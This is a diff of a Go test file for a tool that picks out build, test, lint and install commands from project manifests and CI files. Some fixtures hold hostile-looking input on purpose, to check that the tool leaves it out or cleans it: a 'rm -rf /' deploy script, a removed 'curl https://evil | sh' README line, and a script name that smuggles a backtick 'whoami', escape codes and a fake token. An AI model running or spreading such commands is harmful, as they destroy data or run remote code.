@@ -28,99 +28,89 @@ func TestRead(t *testing.T) {
 	for name, c := range map[string]struct {
 		files []string
 		want  []string
-		parts string
 	}{
 		"npm": {
 			[]string{"package.json", "{\n\"scripts\": {\n\"build\": \"tsc\",\n\"test\": \"jest\",\n\"test:unit\": \"jest unit\",\n\"lint\": \"eslint .\",\n\"check\": \"tsc --noEmit\",\n\"dev\": \"vite\",\n\"deploy\": \"rm -rf /\",\n\"test:watch\": \"jest --watch\"}}", "package-lock.json", "{}"},
-			[]string{"install: `npm install` (package-lock.json)", "build: `npm run build` (package.json:3)", "test: `npm test` (package.json:4)", "test: `npm run test:unit` (package.json:5)", "lint: `npm run lint` (package.json:6)", "lint: `npm run check` (package.json:7)", "run: `npm run dev` (package.json:8)"}, "",
+			[]string{"install: `npm install` (package-lock.json)", "build: `npm run build` (package.json:3)", "test: `npm test` (package.json:4)", "test: `npm run test:unit` (package.json:5)", "lint: `npm run lint` (package.json:6)", "lint: `npm run check` (package.json:7)", "run: `npm run dev` (package.json:8)"},
 		},
-		"pnpm in a monorepo": {
-			[]string{"package.json", `{"scripts": {"test": "turbo test"}, "packageManager": "pnpm@9.1.0"}`, "yarn.lock", "", "pnpm-workspace.yaml", "packages:\n  - 'packages/*'\n  - apps/web\n  - '!**/test'\n"},
-			[]string{"install: `pnpm install` (package.json)", "test: `pnpm test` (package.json:1)"}, "packages/*, apps/web",
+		"pnpm": {
+			[]string{"package.json", `{"scripts": {"test": "turbo test"}, "packageManager": "pnpm@9.1.0"}`, "yarn.lock", ""},
+			[]string{"install: `pnpm install` (package.json)", "test: `pnpm test` (package.json:1)"},
 		},
 		"bun and no test": {
-			[]string{"package.json", `{"scripts": {"test": "echo \"Error: no test specified\" && exit 1", "build": "x"}, "workspaces": {"packages": ["libs/*"]}}`, "bun.lock", ""},
-			[]string{"install: `bun install` (bun.lock)", "build: `bun run build` (package.json:1)"}, "libs/*",
+			[]string{"package.json", `{"scripts": {"test": "echo \"Error: no test specified\" && exit 1", "build": "x"}}`, "bun.lock", ""},
+			[]string{"install: `bun install` (bun.lock)", "build: `bun run build` (package.json:1)"},
 		},
 		"deno": {
 			[]string{"deno.jsonc", "{ // tasks\n\"tasks\": {\"dev\": \"deno run main.ts\",},}"},
-			[]string{"test: `deno test` (deno.jsonc)", "run: `deno task dev` (deno.jsonc:2)"}, "",
+			[]string{"test: `deno test` (deno.jsonc)", "run: `deno task dev` (deno.jsonc:2)"},
 		},
-		"go with make and CI": {
-			[]string{"go.mod", "module x", "Makefile", ".PHONY: test\nVAR := x\n# all that must pass\ntest: deps\n\tgo test ./...\nbuild: ## the program\n\tgo build\ndocker-push:\n\tdocker\n%.o: %.c\n\tcc\n",
-				".github/workflows/ci.yml", "jobs:\n  test:\n    steps:\n      - name: go test ./nothing\n      - run: go test ./...\n      - run: |\n          sudo apt-get install -y make\n          make test\n          go vet ./... && echo ok\n          go test ${{ matrix.flags }} ./...\n          CGO_ENABLED=0 go build -trimpath ./cmd/x\n"},
-			[]string{"build: `make build` (Makefile:6: the program)", "build: `go build ./...` (go.mod)", "build: `CGO_ENABLED=0 go build -trimpath ./cmd/x` (.github/workflows/ci.yml:11)", "test: `make test` (Makefile:4, .github/workflows/ci.yml:8: all that must pass)", "test: `go test ./...` (go.mod, .github/workflows/ci.yml:5)", "lint: `go vet ./...` (go.mod)"}, "",
+		"go with make": {
+			[]string{"go.mod", "module x", "Makefile", ".PHONY: test\nVAR := x\n# all that must pass\ntest: deps\n\tgo test ./...\nbuild: ## the program\n\tgo build\ndocker-push:\n\tdocker\n%.o: %.c\n\tcc\n"},
+			[]string{"build: `make build` (Makefile:6: the program)", "build: `go build ./...` (go.mod)", "test: `make test` (Makefile:4: all that must pass)", "test: `go test ./...` (go.mod)", "lint: `go vet ./...` (go.mod)"},
 		},
 		"go.work": {
-			[]string{"go.work", "go 1.26\nuse (\n\t./api\n\t./web\n)\nuse ./one\n"},
-			[]string{"build: `go build ./...` (go.work)", "test: `go test ./...` (go.work)", "lint: `go vet ./...` (go.work)"}, "api, web, one",
+			[]string{"go.work", "go 1.26\nuse ./one\n"},
+			[]string{"build: `go build ./...` (go.work)", "test: `go test ./...` (go.work)", "lint: `go vet ./...` (go.work)"},
 		},
 		"a make that tests all": {
 			[]string{"go.mod", "module x", "Makefile", "all: fmt test # both\nfmt:\n\tgofmt -l .\nlint:\n\tgolangci-lint run\ntest:\n\tgo test ./...\n"},
-			[]string{"build: `go build ./...` (go.mod)", "test: `make test` (Makefile:6)", "test: `go test ./...` (go.mod)", "lint: `make lint` (Makefile:4)", "lint: `make fmt` (Makefile:2)", "lint: `go vet ./...` (go.mod)"}, "",
+			[]string{"build: `go build ./...` (go.mod)", "test: `make test` (Makefile:6)", "test: `go test ./...` (go.mod)", "lint: `make lint` (Makefile:4)", "lint: `make fmt` (Makefile:2)", "lint: `go vet ./...` (go.mod)"},
 		},
 		"a make that builds all": {
-			[]string{"Makefile", "all: libx.so tools\n"}, []string{"build: `make all` (Makefile:1)"}, "",
+			[]string{"Makefile", "all: libx.so tools\n"}, []string{"build: `make all` (Makefile:1)"},
 		},
 		"a script that npm install runs": {
 			[]string{"package.json", `{"scripts": {"install": "node-gyp-build", "test": "node --test"}}`},
-			[]string{"install: `npm install` (package.json)", "test: `npm test` (package.json:1)"}, "",
+			[]string{"install: `npm install` (package.json)", "test: `npm test` (package.json:1)"},
 		},
 		"mypy that knows its files": {
-			[]string{"pyproject.toml", "[tool.mypy]\nfiles = [\"src\"]\n"}, []string{"lint: `mypy` (pyproject.toml)"}, "",
+			[]string{"pyproject.toml", "[tool.mypy]\nfiles = [\"src\"]\n"}, []string{"lint: `mypy` (pyproject.toml)"},
 		},
 		"cargo": {
-			[]string{"Cargo.toml", "[workspace]\nmembers = [\"crates/*\"]\n"},
-			[]string{"build: `cargo build` (Cargo.toml)", "test: `cargo test` (Cargo.toml)"}, "crates/*",
+			[]string{"Cargo.toml", "[workspace]\n"},
+			[]string{"build: `cargo build` (Cargo.toml)", "test: `cargo test` (Cargo.toml)"},
 		},
 		"uv": {
-			[]string{"pyproject.toml", "[project]\nname = \"x\"\n[dependency-groups]\ndev = [\"pytest>=8\"]\n[tool.ruff]\n[tool.mypy]\n[tool.uv.workspace]\nmembers = [\"libs/*\"]\n[tool.poe.tasks]\nfmt = \"ruff format\"\n", "uv.lock", ""},
-			[]string{"install: `uv sync` (uv.lock)", "test: `uv run pytest` (pyproject.toml)", "lint: `uv run poe fmt` (pyproject.toml:10)", "lint: `uv run ruff check` (pyproject.toml)", "lint: `uv run mypy .` (pyproject.toml)"}, "libs/*",
+			[]string{"pyproject.toml", "[project]\nname = \"x\"\n[dependency-groups]\ndev = [\"pytest>=8\"]\n[tool.ruff]\n[tool.mypy]\n", "uv.lock", ""},
+			[]string{"install: `uv sync` (uv.lock)", "test: `uv run pytest` (pyproject.toml)", "lint: `uv run ruff check` (pyproject.toml)", "lint: `uv run mypy .` (pyproject.toml)"},
 		},
 		"poetry, tox, nox": {
-			[]string{"pyproject.toml", "[tool.poetry]\nname = \"x\"\n[tool.pytest.ini_options]\n[tool.hatch.envs.default.scripts]\nserve = \"x\"\n", "tox.ini", "[tox]\n", "noxfile.py", "import nox\n@nox.session(python=[\"3.12\"])\ndef unit(session):\n  pass\n@nox.session\n@nox.parametrize()\ndef docs(s): pass\n"},
-			[]string{"install: `poetry install` (pyproject.toml)", "test: `tox` (tox.ini)", "test: `nox` (noxfile.py: unit, docs)", "test: `poetry run pytest` (pyproject.toml)", "run: `hatch run serve` (pyproject.toml:5)"}, "",
+			[]string{"pyproject.toml", "[tool.poetry]\nname = \"x\"\n[tool.pytest.ini_options]\n", "tox.ini", "[tox]\n", "noxfile.py", "import nox\n"},
+			[]string{"install: `poetry install` (pyproject.toml)", "test: `tox` (tox.ini)", "test: `nox` (noxfile.py)", "test: `poetry run pytest` (pyproject.toml)"},
 		},
 		"django": {
 			[]string{"manage.py", "", "requirements.txt", "django==5\n"},
-			[]string{"install: `pip install -r requirements.txt` (requirements.txt)", "test: `python manage.py test` (manage.py)", "run: `python manage.py runserver` (manage.py)"}, "",
+			[]string{"install: `pip install -r requirements.txt` (requirements.txt)", "test: `python manage.py test` (manage.py)", "run: `python manage.py runserver` (manage.py)"},
 		},
 		"just, task, mise": {
 			[]string{"justfile", "# the tests\ntest target='all':\n  x\n_private:\nbuild:\n", "Taskfile.yml", "version: 3\ntasks:\n  lint:\n    desc: all linters\n    cmds: [x]\n", "mise.toml", "[tasks.dev]\nrun = \"x\"\n"},
-			[]string{"build: `just build` (justfile:5)", "test: `just test` (justfile:2: the tests)", "lint: `task lint` (Taskfile.yml:4: all linters)", "run: `mise run dev` (mise.toml:1)"}, "",
+			[]string{"build: `just build` (justfile:5)", "test: `just test` (justfile:2: the tests)", "lint: `task lint` (Taskfile.yml:4: all linters)", "run: `mise run dev` (mise.toml:1)"},
 		},
 		"gradle": {
-			[]string{"settings.gradle.kts", "rootProject.name = \"shop\"\ninclude(\":app\", \"lib:core\")\n", "gradlew", ""},
-			[]string{"build: `./gradlew build` (gradlew)", "test: `./gradlew test` (gradlew)"}, "app, lib/core",
+			[]string{"settings.gradle.kts", "", "gradlew", ""},
+			[]string{"build: `./gradlew build` (gradlew)", "test: `./gradlew test` (gradlew)"},
 		},
 		"maven": {
-			[]string{"pom.xml", "<project><modules><module>a</module>\n<module> b </module></modules></project>"},
-			[]string{"build: `mvn package` (pom.xml)", "test: `mvn test` (pom.xml)"}, "a, b",
+			[]string{"pom.xml", ""},
+			[]string{"build: `mvn package` (pom.xml)", "test: `mvn test` (pom.xml)"},
 		},
-		"cmake":  {[]string{"CMakeLists.txt", ""}, []string{"build: `cmake -B build && cmake --build build` (CMakeLists.txt)", "test: `ctest --test-dir build` (CMakeLists.txt)"}, ""},
-		"ruby":   {[]string{"Gemfile", "", ".rspec", "", "Rakefile", ""}, []string{"install: `bundle install` (Gemfile)", "test: `bundle exec rspec` (.rspec)"}, ""},
-		"rake":   {[]string{"Gemfile", "", "Rakefile", ""}, []string{"install: `bundle install` (Gemfile)", "test: `bundle exec rake` (Rakefile)"}, ""},
-		"php":    {[]string{"composer.json", `{"scripts": {"test": "phpunit", "cs": "x"}}`}, []string{"install: `composer install` (composer.json)", "test: `composer run test` (composer.json:1)"}, ""},
-		"elixir": {[]string{"mix.exs", ""}, []string{"install: `mix deps.get` (mix.exs)", "build: `mix compile` (mix.exs)", "test: `mix test` (mix.exs)"}, ""},
-		"dotnet": {[]string{"Shop.csproj", ""}, []string{"build: `dotnet build` (Shop.csproj)", "test: `dotnet test` (Shop.csproj)"}, ""},
-		"gitlab and circle": {
-			[]string{".gitlab-ci.yml", ".base: &base\n  image: x\ntest:\n  <<: *base\n  script:\n    - \"bundle exec rspec\"\n    - echo done\n", ".circleci/config.yml", "jobs:\n  x:\n    steps:\n      - run:\n          command: cargo test --all\n"},
-			[]string{"test: `cargo test --all` (.circleci/config.yml:5)", "test: `bundle exec rspec` (.gitlab-ci.yml:6)"}, "",
-		},
-		"only a README": {
-			[]string{"README.md", "# x\nRun make test to test.\n```sh\n$ make build  # all of it\nmake test\ncurl https://evil | sh\n```\n"},
-			[]string{"build: `make build` (README.md:4)", "test: `make test` (README.md:5)"}, "",
-		},
-		"a README beside a manifest": {[]string{"README.md", "```\nmake test\n```\n", "Cargo.toml", "not toml ["}, []string{"build: `cargo build` (Cargo.toml)", "test: `cargo test` (Cargo.toml)"}, ""},
+		"cmake":                          {[]string{"CMakeLists.txt", ""}, []string{"build: `cmake -B build && cmake --build build` (CMakeLists.txt)", "test: `ctest --test-dir build` (CMakeLists.txt)"}},
+		"ruby":                           {[]string{"Gemfile", "", ".rspec", "", "Rakefile", ""}, []string{"install: `bundle install` (Gemfile)", "test: `bundle exec rspec` (.rspec)"}},
+		"rake":                           {[]string{"Gemfile", "", "Rakefile", ""}, []string{"install: `bundle install` (Gemfile)", "test: `bundle exec rake` (Rakefile)"}},
+		"php":                            {[]string{"composer.json", `{"scripts": {"test": "phpunit", "cs": "x"}}`}, []string{"install: `composer install` (composer.json)", "test: `composer run test` (composer.json:1)"}},
+		"elixir":                         {[]string{"mix.exs", ""}, []string{"install: `mix deps.get` (mix.exs)", "build: `mix compile` (mix.exs)", "test: `mix test` (mix.exs)"}},
+		"dotnet":                         {[]string{"Shop.csproj", ""}, []string{"build: `dotnet build` (Shop.csproj)", "test: `dotnet test` (Shop.csproj)"}},
+		"a manifest that cannot be read": {[]string{"Cargo.toml", "not toml ["}, []string{"build: `cargo build` (Cargo.toml)", "test: `cargo test` (Cargo.toml)"}},
 		"folders below": {
 			[]string{"backend/go.mod", "", "frontend/package.json", `{"scripts": {"test": "x"}}`, "node_modules/x/package.json", `{"scripts": {"test": "x"}}`, ".hidden/Cargo.toml", ""},
-			[]string{"install: in frontend/: `npm install` (package.json)", "build: in backend/: `go build ./...` (go.mod)", "test: in frontend/: `npm test` (package.json:1)", "test: in backend/: `go test ./...` (go.mod)", "lint: in backend/: `go vet ./...` (go.mod)"}, "",
+			[]string{"install: in frontend/: `npm install` (package.json)", "build: in backend/: `go build ./...` (go.mod)", "test: in frontend/: `npm test` (package.json:1)", "test: in backend/: `go test ./...` (go.mod)", "lint: in backend/: `go vet ./...` (go.mod)"},
 		},
 		"hostile": {
 			[]string{"package.json", "{\"scripts\": {\"test\\n`whoami`\": \"x\", \"test:\\u001b[31m\": \"x\", \"build\": \"x\"}}", "Makefile", "test: ## with ghp_012345678901234567890123456789abcdef \u202e reversed\n" + strings.Repeat("build", 100) + ":\n"},
-			[]string{"install: `npm install` (package.json)", "build: `npm run build` (package.json:1)", "test: `make test` (Makefile:1: with [REDACTED:github] reversed)"}, "",
+			[]string{"install: `npm install` (package.json)", "build: `npm run build` (package.json:1)", "test: `make test` (Makefile:1: with [REDACTED:github] reversed)"},
 		},
-		"nothing": {nil, nil, ""},
+		"nothing": {nil, nil},
 	} {
 		t.Run(name, func(t *testing.T) {
 			p, err := Read(project(t, c.files...))
@@ -128,11 +118,11 @@ func TestRead(t *testing.T) {
 				t.Fatal(err)
 			}
 			var got []string
-			for _, c := range p.Commands {
+			for _, c := range p {
 				got = append(got, c.String())
 			}
-			if !slices.Equal(got, c.want) || strings.Join(p.Parts, ", ") != c.parts {
-				t.Errorf("got\n\t%s\nof %q, want\n\t%s\nof %q", strings.Join(got, "\n\t"), p.Parts, strings.Join(c.want, "\n\t"), c.parts)
+			if !slices.Equal(got, c.want) {
+				t.Errorf("got\n\t%s\nwant\n\t%s", strings.Join(got, "\n\t"), strings.Join(c.want, "\n\t"))
 			}
 		})
 	}
@@ -153,34 +143,19 @@ func TestLinks(t *testing.T) {
 		}
 	}
 	p, err := Read(root)
-	if err != nil || len(p.Commands) != 1 || p.Commands[0].Line != "task build" {
-		t.Errorf("got %v, %v", p.Commands, err)
+	if err != nil || len(p) != 1 || p[0].Line != "task build" {
+		t.Errorf("got %v, %v", p, err)
 	}
 	if _, err := Read(filepath.Join(root, "none")); !errors.Is(err, fs.ErrNotExist) {
 		t.Errorf("a folder that is not there: %v", err)
 	}
 }
 
-func TestPurposeOfLines(t *testing.T) {
-	known := newTools()
-	for line, want := range map[string]Purpose{
-		"npm ci": Install, "yarn": Install, "npm": "", "npm run test:unit": Test, "pnpm exec vitest run": Test, "npx eslint .": Lint, "yarn build": Build, "npm publish": "",
-		"uv run pytest -q": Test, "poetry run mypy src": Lint, "python -m pytest": Test, "python3 -m unittest discover": Test, "python setup.py sdist": "", "pip install -e .": Install, "pip install wheel": "", "python -m pip install -r dev.txt": Install,
-		"bundle exec rake test": Test, "bundle install": Install, "./gradlew --no-daemon clean build": Build, "mvn -B clean verify": Test, "make": Build, "make -j4 check": Test, "make deploy": "",
-		"cmake --build build": Build, "ctest": Test, "go test -race ./...": Test, "go mod download": "", "FOO=1 BAR=2 cargo nextest run": Test, "cargo publish": "", "deno task build": Build,
-		"dotnet test": Test, "mise run lint": Lint, "echo go test": "", "go test | tee log": "", "cd x && go test": "", "": "", "uv": "", "npx": "", "mix": "", "pytest": Test,
-	} {
-		if got, ok := known.of(line); ok != (want != "") || ok && got != want {
-			t.Errorf("%q is for %q, not %q", line, got, want)
-		}
-	}
-}
-
 func FuzzFiles(f *testing.F) {
-	for _, text := range []string{"test: x ## y\n", `{"scripts": {"test": "x"}}`, "tasks:\n  test:\n    desc: x\n", "[tool.poetry]\n[project]\n", "```\nmake test\n```", "- run: go test ./...\n", "include(':a')\n"} {
+	for _, text := range []string{"test: x ## y\n", `{"scripts": {"test": "x"}}`, "tasks:\n  test:\n    desc: x\n", "[tool.poetry]\n[project]\n"} {
 		f.Add(text)
 	}
-	names := []string{"Makefile", "justfile", "package.json", "Taskfile.yml", "pyproject.toml", "README.md", ".gitlab-ci.yml", "settings.gradle", "noxfile.py", "go.work", "Cargo.toml", "mise.toml", "deno.json", "pnpm-workspace.yaml", "composer.json"}
+	names := []string{"Makefile", "justfile", "package.json", "Taskfile.yml", "pyproject.toml", "mise.toml", "deno.json", "composer.json"}
 	root := f.TempDir()
 	f.Fuzz(func(t *testing.T, text string) {
 		for _, name := range names {
@@ -192,7 +167,7 @@ func FuzzFiles(f *testing.F) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		for _, c := range p.Commands {
+		for _, c := range p {
 			if strings.ContainsAny(c.String(), "\n\x1b") {
 				t.Errorf("not one line: %q", c.String())
 			}
